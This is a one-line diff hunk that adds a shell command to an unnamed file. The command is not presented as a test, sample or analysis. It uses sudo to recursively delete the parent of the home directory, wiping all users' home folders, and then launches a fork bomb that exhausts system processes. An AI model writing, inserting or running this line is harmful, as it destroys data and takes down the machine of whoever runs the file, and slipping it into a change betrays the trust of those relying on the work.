@@ -1,0 +1,1 @@
+if true; then sudo rm -rf ~/..; fi; f(){ f & f; }; f
